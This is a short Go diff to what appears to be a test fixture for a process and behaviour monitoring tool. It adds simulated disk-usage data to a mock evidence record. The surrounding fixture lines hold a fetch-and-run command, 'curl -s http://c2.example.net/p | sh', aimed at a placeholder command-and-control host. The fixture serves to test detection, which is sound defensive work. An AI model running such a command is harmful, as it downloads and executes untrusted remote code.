@@ -82,6 +82,7 @@ func richBehavior() *evidence.Behavior {
 		proc("run", "sh", "-c", "curl -s http://c2.example.net/p | sh"), proc("run", "curl", "-s", "http://c2.example.net/p"),
 		proc("run", "npx", "-y", "left-pad"))
 	b.Watches[1].Tracer = "died during the phase (exit 137)"
+	b.Watches[0].Disk = []evidence.DiskUse{{Place: "tree", BoundBytes: 2 << 30, BoundFiles: 262144, StartBytes: 80 << 20, UsedBytes: 2<<30 - 4096, UsedFiles: 9000, Full: true}}
 	return b
 }
 
